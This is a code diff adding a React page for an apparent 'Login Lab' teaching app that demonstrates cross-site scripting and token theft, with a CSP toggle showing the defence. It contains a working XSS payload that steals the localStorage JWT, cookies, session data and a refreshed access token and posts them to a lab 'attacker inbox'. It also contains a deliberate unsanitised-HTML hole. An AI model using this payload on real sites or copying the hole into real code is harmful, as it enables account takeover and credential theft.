@@ -1,0 +1,124 @@
+"use client";
+
+import Link from "next/link";
+import { useCallback, useEffect, useState } from "react";
+import { callApi } from "@/lib/client/api";
+
+/**
+ * The ready payload: an image that fails to load runs its onerror handler, which reads what page
+ * script can read (localStorage, document.cookie), uses what it cannot read (the HttpOnly
+ * cookies, which the browser still attaches to same-origin requests), and mails it all home.
+ */
+export const PAYLOAD = `<img src="/no-such-image.png" alt="" onerror="(async () => {
+  const jwt = localStorage.getItem('loginlab.jwt');
+  const session = await fetch('/api/session/mypage').then((r) => r.text());
+  const refreshed = await fetch('/api/hybrid/refresh', { method: 'POST' }).then((r) => r.json()).catch(() => ({}));
+  await fetch('/api/lab/inbox', { method: 'POST', headers: { 'content-type': 'application/json' },
+    body: JSON.stringify({ jwt, documentCookie: document.cookie, session: session.slice(0, 2000), hybridAccessToken: refreshed.access_token ?? null }) });
+})()">`;
+
+type Delivery = { at: string; jwt: string | null; documentCookie: string; session: string; hybridAccessToken: string | null };
+
+export function XssLab({ csp }: { csp: boolean }) {
+  const [draft, setDraft] = useState("");
+  const [posted, setPosted] = useState<string | null>(null);
+  const [deliveries, setDeliveries] = useState<Delivery[]>([]);
+  const [replayed, setReplayed] = useState<Record<string, number>>({});
+
+  const load = useCallback(async () => {
+    const r = await callApi("/api/lab/inbox");
+    if (r.status === 200) setDeliveries((r.body as { deliveries: Delivery[] }).deliveries);
+  }, []);
+  useEffect(() => {
+    void load();
+    const t = setInterval(load, 1500);
+    return () => clearInterval(t);
+  }, [load]);
+
+  return (
+    <div className="flex flex-col gap-5">
+      <div className="max-w-3xl">
+        <h1 className="text-2xl font-semibold tracking-tight">XSS lab: what an injected script can take</h1>
+        <p className="mt-2 text-zinc-600 dark:text-zinc-400">
+          This page is <strong>deliberately vulnerable</strong>: it shows comments as raw HTML. Log in on the <Link href="/" className="underline">panels</Link>{" "}
+          first (JWT and Session at least), then post the ready payload here.
+        </p>
+        <p data-testid="csp-state" className={`mt-3 rounded-md px-3 py-2 text-sm ${csp ? "bg-green-50 text-green-900 dark:bg-green-950/40 dark:text-green-200" : "bg-red-50 text-red-900 dark:bg-red-950/40 dark:text-red-200"}`}>
+          {csp ? (
+            <>
+              Content-Security-Policy <strong>on</strong>: only scripts carrying this response&apos;s nonce run. The payload&apos;s inline handler will be
+              blocked. <Link href="/lab/xss" className="underline">Turn it off</Link>
+            </>
+          ) : (
+            <>
+              Content-Security-Policy <strong>off</strong> on this page (every other page of Login Lab has one).{" "}
+              <Link href="/lab/xss?csp=on" className="underline">Turn it on</Link>
+            </>
+          )}
+        </p>
+      </div>
+
+      <section className="grid grid-cols-1 gap-4 lg:grid-cols-2">
+        <div className="flex flex-col gap-2 rounded-xl border border-zinc-200 bg-white p-4 dark:border-zinc-800 dark:bg-zinc-900">
+          <label htmlFor="comment" className="font-semibold">
+            Leave a comment (HTML allowed — that is the bug)
+          </label>
+          <textarea id="comment" value={draft} onChange={(e) => setDraft(e.target.value)} rows={7} className="rounded-md border border-zinc-300 p-2 font-mono text-xs dark:border-zinc-700 dark:bg-zinc-950" />
+          <div className="flex gap-2">
+            <button type="button" onClick={() => setDraft(PAYLOAD)} className="rounded-md border border-zinc-300 px-3 py-1.5 text-sm dark:border-zinc-700">
+              Load the ready payload
+            </button>
+            <button type="button" onClick={() => setPosted(draft)} className="rounded-md bg-zinc-900 px-3 py-1.5 text-sm font-semibold text-white dark:bg-zinc-100 dark:text-zinc-900">
+              Post comment
+            </button>
+          </div>
+          <h2 className="mt-2 text-sm font-semibold">Comments</h2>
+          {/* The vulnerability, on purpose: untrusted HTML straight into the page. */}
+          <div data-testid="comments" className="min-h-10 rounded-md bg-zinc-50 p-2 text-sm dark:bg-zinc-950" dangerouslySetInnerHTML={{ __html: posted ?? "" }} />
+        </div>
+
+        <div data-testid="inbox" className="flex flex-col gap-2 rounded-xl border border-red-200 bg-white p-4 dark:border-red-900 dark:bg-zinc-900">
+          <div className="flex items-center">
+            <h2 className="font-semibold text-red-700 dark:text-red-400">Attacker inbox</h2>
+            <button type="button" onClick={async () => (await callApi("/api/lab/inbox", { method: "DELETE" }), load())} className="ml-auto text-xs underline">
+              clear
+            </button>
+          </div>
+          {deliveries.length === 0 ? <p className="text-sm text-zinc-500">Nothing stolen yet.</p> : null}
+          {deliveries.map((d) => (
+            <div key={d.at} data-testid="delivery" className="flex flex-col gap-1 border-t border-zinc-200 pt-2 text-xs dark:border-zinc-800">
+              <p>
+                <strong>JWT from localStorage:</strong>{" "}
+                {d.jwt ? <code className="font-mono break-all">{d.jwt.slice(0, 40)}…</code> : "none (not logged in with JWT)"}
+              </p>
+              {d.jwt ? (
+                <p>
+                  <button
+                    type="button"
+                    className="rounded border border-red-300 px-2 py-0.5 dark:border-red-800"
+                    onClick={async () => {
+                      // The attacker, elsewhere, with nothing but the stolen string.
+                      const r = await callApi("/api/jwt/mypage", { headers: { Authorization: `Bearer ${d.jwt}` }, credentials: "omit" });
+                      setReplayed((p) => ({ ...p, [d.at]: r.status }));
+                    }}
+                  >
+                    Attacker: call GET /api/jwt/mypage with it
+                  </button>{" "}
+                  {replayed[d.at] ? <strong data-testid="attacker-status">{replayed[d.at]}</strong> : null}
+                </p>
+              ) : null}
+              <p>
+                <strong>document.cookie:</strong> <code data-testid="stolen-cookie" className="font-mono">{JSON.stringify(d.documentCookie)}</code> — the HttpOnly session
+                and refresh cookies are not in it.
+              </p>
+              <p>
+                <strong>But the script used them while the page was open:</strong> <code className="font-mono break-all">GET /api/session/mypage → {d.session.slice(0, 120)}</code>
+                {d.hybridAccessToken ? " · and a fresh hybrid access token from POST /api/hybrid/refresh." : ""}
+              </p>
+            </div>
+          ))}
+        </div>
+      </section>
+    </div>
+  );
+}
